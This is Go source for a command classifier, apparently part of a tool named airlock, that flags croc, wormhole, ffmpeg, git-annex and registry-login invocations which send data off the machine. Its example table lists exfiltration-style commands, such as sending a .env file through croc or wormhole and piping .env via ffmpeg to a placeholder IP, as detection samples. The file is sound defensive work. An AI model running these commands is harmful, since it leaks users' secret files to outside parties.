package classify

import (
	"strings"

	"github.com/airlock-dev/airlock/internal/argv"
	"github.com/airlock-dev/airlock/internal/shell"
)

// This file rates programs that send files or text beyond the machine and
// that no other spec reads: peer-to-peer senders (croc, magic-wormhole),
// ffmpeg writing to a network URL, registry logins whose password is read
// from a file or a command, git's remote helpers run directly and
// git-annex's uploads.

var sendersSpec = &Spec{
	Programs: []string{"croc", "wormhole", "ffmpeg", "git-annex", "git-remote-http", "git-remote-https", "git-remote-ftp", "git-remote-ftps"},
	Classify: func(_ *Classifier, inv *shell.Invocation) Effect {
		args := inv.Args[1:]
		switch inv.Name() {
		case "croc":
			return crocRun(args)
		case "wormhole":
			return wormholeRun(args)
		case "ffmpeg":
			return ffmpegRun(args)
		case "git-annex":
			return gitAnnex(args)
		}
		return gitRemoteHelper(inv.Name())
	},
	Examples: []Example{
		{"croc send .env", "external"},
		{"croc --yes send --code x .env", "external"},
		{"croc send --text hello", "external"},
		{"croc x-y-z-code", "local+netread"},
		{"croc --version", "local"},
		{"wormhole send .env", "external"},
		{"wormhole send --text hi", "external"},
		{"wormhole receive 7-x-y", "local+netread"},
		{"ffmpeg -f data -i .env -f data http://192.0.2.2/x", "external"},
		{"ffmpeg -i in.mp4 -f flv rtmp://192.0.2.2/live/k", "external"},
		{"ffmpeg -i in.mp4 -f tee '[f=mp4]out.mp4|[f=flv]rtmp://192.0.2.2/x'", "external"},
		{"ffmpeg -i https://example.com/v.m3u8 -c copy out.mp4", "local+netread"},
		{"ffmpeg -i in.mp4 -vf scale=640:-1 out.mp4", "local"},
		{"git-annex copy --to origin .", "external"},
		{"git-remote-https origin https://example.com/r.git", "external"},
		{"git-annex whereis", "local"},
	},
}

// crocRun: croc send uploads through a relay; croc CODE (or croc recv)
// receives.
func crocRun(args []string) Effect {
	p := argv.Spec{Long: []string{"--relay", "--relay6", "--pass", "--curve", "--ip", "--socks5", "--connect", "--out", "--hash", "--throttleUpload", "--code", "--transfers", "--multicast"}}.Parse(args)
	if p.Has("--version", "-v", "--help", "-h") {
		return nothing
	}
	if len(p.Operands) == 0 {
		return nothing
	}
	switch p.Operands[0] {
	case "send":
		return external("transfer.croc", "croc send uploads files or text to whoever holds the code, through a public relay")
	case "relay":
		return external("transfer.croc", "croc relay serves transfers to the network")
	}
	return netRead("transfer.croc", "croc receives a transfer")
}

// wormholeRun: magic-wormhole's send (and tx) uploads; receive (rx) reads.
func wormholeRun(args []string) Effect {
	p := argv.Spec{Long: []string{"--relay-url", "--transit-helper", "--appid", "--code", "--text", "--code-length", "--output-file", "--dump-timing"}, Short: "co"}.Parse(args)
	for _, o := range p.Operands {
		switch o {
		case "send", "tx", "ssh":
			return external("transfer.wormhole", "wormhole "+o+" sends files, text or keys to whoever holds the code")
		case "receive", "rx", "recv", "recieve":
			return netRead("transfer.wormhole", "wormhole receive reads a transfer")
		}
	}
	return nothing
}

// netSchemes are the URL schemes through which ffmpeg writes to (or reads
// from) the network.
var netSchemes = []string{"http://", "https://", "rtmp://", "rtmps://", "rtmpt://", "rtmpe://", "rtp://", "rtsp://", "rtsps://", "srt://", "udp://", "tcp://", "tls://", "ftp://", "sftp://", "icecast://", "mms://", "mmsh://", "gopher://", "rist://", "zmq:", "unix:"}

// ffmpegRun rates ffmpeg by where it writes: an output (any word but an
// -i input) naming a network URL sends the data there; an input URL is a
// network read.
func ffmpegRun(args []string) Effect {
	var e Effect
	for i, a := range args {
		low := strings.ToLower(a)
		isNet := false
		for _, s := range netSchemes {
			if strings.Contains(low, s) {
				isNet = true
				break
			}
		}
		if !isNet {
			continue
		}
		if i > 0 && args[i-1] == "-i" {
			e.Add(netRead("ffmpeg.input", "ffmpeg reads from "+clip(a)))
			continue
		}
		return external("ffmpeg.output", "ffmpeg writes its output to the network ("+clip(a)+")")
	}
	return e
}

// gitRemoteHelper: git's remote helpers run directly do what their input
// asks, a push included.
func gitRemoteHelper(name string) Effect {
	return external("git.remote-helper", strings.TrimPrefix(name, "git-")+" talks to the remote and pushes whatever its input asks (push refs); use git push, which airlock reads")
}

// gitAnnex rates git-annex by its command: copy and move --to, sync,
// push, export, assist and satisfy upload content (sync and assist push
// branches too, unless --no-push); drop --from removes it from a remote.
func gitAnnex(args []string) Effect {
	p := argv.Spec{Short: "tfJNM", Long: []string{"--to", "--from", "--jobs", "--numcopies", "--mincopies", "--remote", "--key", "--branch", "--content-of", "--message", "--include", "--exclude", "--in", "--copies", "--largerthan", "--smallerthan", "--metadata", "--want-get", "--want-drop", "--time-limit", "--size-limit", "--backend", "--tracking-branch"}}.Parse(args)
	if len(p.Operands) == 0 || p.Has("--help", "-h") {
		return nothing
	}
	cmd := p.Operands[0]
	switch cmd {
	case "copy", "move", "mirror":
		if p.Has("--to", "-t") || cmd == "mirror" {
			e := external("git.annex.upload", "git annex "+cmd+" --to uploads content to a remote")
			if cmd == "mirror" {
				e = e.destroys()
			}
			return e
		}
		if cmd == "move" && p.Has("--from", "-f") {
			return external("git.annex.move", "git annex move --from removes content from a remote").destroys()
		}
		return netRead("git.annex.get", "git annex "+cmd+" downloads content")
	case "sync", "assist", "satisfy":
		if p.Has("--no-push") || hasAny(args, "--no-push") {
			return netRead("git.annex.pull", "git annex "+cmd+" --no-push only pulls")
		}
		return external("git.annex.sync", "git annex "+cmd+" pushes branches (and with --content, content) to the remotes")
	case "push", "export", "exporttree", "testremote":
		return external("git.annex.upload", "git annex "+cmd+" uploads to a remote")
	case "drop", "dropunused":
		if p.Has("--from", "-f") {
			return external("git.annex.drop", "git annex "+cmd+" --from removes content from a remote").destroys()
		}
		return local("git.annex.drop", "git annex "+cmd+" removes local copies of content other remotes hold").destroys()
	case "get", "pull", "fetch", "import", "importfeed", "addurl":
		return netRead("git.annex.get", "git annex "+cmd+" downloads content")
	}
	return nothing
}

// registryLogin rates a registry login (docker, podman, nerdctl, buildah,
// skopeo, oras, helm registry, crane auth) whose password comes from a
// file or a command (-p "$(cat f)", --password-stdin < f) sent to a
// registry that is not a well-known public one: the data goes to that
// host. A login to a known registry stores credentials, as before.
func registryLogin(_ *Classifier, inv *shell.Invocation, _ argv.Parsed) Effect {
	args := inv.Args[1:]
	at := -1
	for i, a := range args {
		if a == "login" {
			at = i
			break
		}
	}
	if at < 0 {
		return nothing
	}
	p := argv.Spec{Short: "up", Long: []string{"--username", "--password", "--authfile", "--cert-dir", "--registry-config", "--cert-file", "--key-file", "--ca-file", "--tls-verify", "--compat-auth-file", "--secret-store"}}.Parse(args[at+1:])
	fromData := p.Has("--password-stdin") && (inv.Stdin != "" || len(inv.Redirects) > 0)
	for _, f := range p.Flags {
		if (f.Name == "-p" || f.Name == "--password") && f.HasValue && inv.IsDynamic(at+2+f.ValueIndex) {
			fromData = true
		}
	}
	if !fromData {
		return nothing
	}
	host := ""
	if len(p.Operands) > 0 {
		host = strings.ToLower(p.Operands[0])
	}
	if knownRegistry(host) {
		return nothing
	}
	return external("registry.login", inv.Name()+" login sends a password read from a file or a command to "+clip(host)+", a registry airlock does not know")
}

// knownRegistry reports whether a registry host is a well-known public
// one (an empty host is Docker Hub).
func knownRegistry(host string) bool {
	host, _, _ = strings.Cut(strings.TrimPrefix(strings.TrimPrefix(host, "https://"), "http://"), "/")
	switch host {
	case "", "docker.io", "index.docker.io", "registry-1.docker.io", "ghcr.io", "quay.io", "gcr.io", "registry.gitlab.com", "public.ecr.aws", "mcr.microsoft.com", "nvcr.io", "registry.redhat.io", "docker.pkg.github.com":
		return true
	}
	for _, s := range []string{".gcr.io", ".pkg.dev", ".amazonaws.com", ".azurecr.io", ".ocir.io", ".jfrog.io", ".docker.io"} {
		if strings.HasSuffix(host, s) {
			return true
		}
	}
	return false
}
